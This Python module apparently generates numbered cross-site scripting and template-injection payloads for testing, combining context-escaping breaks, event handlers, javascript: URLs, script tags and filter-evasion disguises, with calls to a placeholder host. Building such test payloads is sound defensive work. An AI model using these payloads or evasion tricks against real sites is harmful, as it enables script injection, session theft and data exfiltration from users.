"""Markup that would run if a page took a document's words for its own: families built from parts, none from a list.

``payloads(count)`` gives that many different ones, every family in turn. Each, if it ran, would call ``hit`` with its
number, open a dialog, or ask another host for something. ``BREAKS`` get out of where a text is put (an attribute, a
title, a script, a comment); ``BODIES`` are what stands there then; ``DISGUISES`` hide it from whoever looks for words.
"""

# ruff: noqa: E501  (a table of parts reads better whole)

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from itertools import islice, product

ELSEWHERE = "http://canary.invalid"
BREAKS = (
    "", '">', "'>", "\">'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>",
    "</mark></p>", "` ", "&quot;&gt;", "</svg>", "</td></tr></table>", "</a>", "</pre></code>", "\\\">", "\u2028\">",
)  # fmt: skip
EVENTS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("input autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("iframe", "onload"),
    ("style", "onload"), ("object data=x", "onerror"), ("select autofocus", "onfocus"), ("div tabindex=1", "onfocusin"),
    ("marquee", "onstart"), ("p style=animation-name:x", "onanimationstart"), ("x contenteditable", "onblur"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("math><mtext", "onmouseover"), ("link rel=stylesheet href=x", "onerror"),
)  # fmt: skip
CALLS = ("hit({n})", "alert({n})", "fetch('{elsewhere}/{n}')", "new Image().src='{elsewhere}/{n}'", "self['hit']({n})",
         "top.hit`{n}`", "(0,eval)('hit({n})')", "location='{elsewhere}/{n}'")  # fmt: skip
ADDRESSES = (
    "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "java\tscript:{call}", "java\nscript:{call}",
    "\x01javascript:{call}", "&#106;avascript:{call}", "javascript&colon;{call}", "data:text/html,<script>{call}</script>",
    "vbscript:{call}", "//canary.invalid/{n}", "javascript://%0a{call}", "blob:{call}", "view-source:javascript:{call}",
)  # fmt: skip
CARRIERS = (
    '<a href="{address}" autofocus>x</a>', '<iframe src="{address}"></iframe>', '<form action="{address}"><input type=image>',
    '<button formaction="{address}">x</button>', '<meta http-equiv=refresh content="0;url={address}">',
    '<base href="{address}">', '<svg><a xlink:href="{address}"><text>x</text></a></svg>', '<object data="{address}"></object>',
    '<embed src="{address}">', '<link rel=import href="{address}">', '<img src="{address}">', '<area href="{address}">',
)  # fmt: skip
SCRIPTS = (
    "<script>{call}</script>", "<script src={elsewhere}/{n}></script>", "<script type=module>{call}</script>",
    "<svg><script>{call}</script></svg>", "<script\n>{call}</script\n>", "<script/x>{call}</script>",
    "<<script>script>{call}<</script>/script>", "<noscript><p title='</noscript><script>{call}</script>'>",
    "<template><script>{call}</script></template>", "<style>@import '{elsewhere}/{n}';</style>",
    "<div style=\"background:url('{elsewhere}/{n}')\">", "<table background='{elsewhere}/{n}'>",
    "<math><mi href='javascript:{call}'>x", "<isindex action=javascript:{call}>", "<?xml-stylesheet href='{elsewhere}/{n}'?>",
)  # fmt: skip
TEMPLATES = (
    "{{{{ {n} * 7 }}}}", "{{% for x in (1,) %}}{{{{ x }}}}{{% endfor %}}", "${{{call}}}", "#{{{call}}}", "<%= {call} %>",
    "{{{{ self.__init__.__globals__ }}}}", "{{{{ ''.__class__.__mro__ }}}}", "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\u2039script\u203a{call}", "\uff1cscript\uff1e{call}\uff1c/script\uff1e", "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;{call}&#60;/script&#62;", "+ADw-script+AD4-{call}+ADw-/script+AD4-",
)  # fmt: skip

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda markup: markup,
    lambda markup: re.sub(r"(?<=<)\w+|\bon\w+(?==)", lambda name: name[0].swapcase(), markup),
    lambda markup: markup.replace("<", "<\0", 1),
    lambda markup: markup.replace(" ", "/", 1),
    lambda markup: markup.replace(" ", "\x0c"),
    lambda markup: markup.replace("=", "\n=\n", 1),
    lambda markup: markup.replace('"', "'"),
    lambda markup: markup.replace('"', ""),
    lambda markup: markup.replace("<", "<!--><", 1),
    lambda markup: "\u202e" + markup,
    lambda markup: markup.rstrip(">"),
    lambda markup: markup * 2,
)


def _bodies() -> Iterator[str]:
    calls = [call.replace("{elsewhere}", ELSEWHERE) for call in CALLS]
    events = (f"<{tag} {event}={call}>" for (tag, event), call in product(EVENTS, calls))
    carried = (
        carrier.replace("{address}", address.replace("{call}", call))
        for carrier, address, call in product(CARRIERS, ADDRESSES, calls[:4])
    )
    scripts = (script.replace("{call}", call) for script, call in product(SCRIPTS, calls))
    templates = (
        made.replace("{call}", call)
        .replace("{{{{", "{{")
        .replace("}}}}", "}}")
        .replace("{{%", "{%")
        .replace("%}}", "%}")
        for made, call in product(TEMPLATES, calls)
    )
    attributes = (f'x" {event}={call} y="' for (_, event), call in product(EVENTS, calls))
    families = [iter(events), iter(carried), iter(scripts), iter(templates), iter(attributes)]
    while families:
        for family in list(families):
            body = next(family, None)
            if body is None:
                families.remove(family)
            else:
                yield body


def payloads(count: int) -> list[str]:
    """That many different pieces of hostile markup, numbered from 0."""
    found: dict[str, None] = {}

    def made() -> Iterator[str]:
        for disguise, opening in product(DISGUISES, BREAKS):
            yield from (opening + disguise(body) for body in islice(_bodies(), len(found) % 7, None, 7))

    for shape in made():
        found.setdefault(shape.replace("{n}", str(len(found))).replace("{elsewhere}", ELSEWHERE))
        if len(found) == count:
            return list(found)
    raise AssertionError(f"the families make {len(found)} payloads, not {count}")
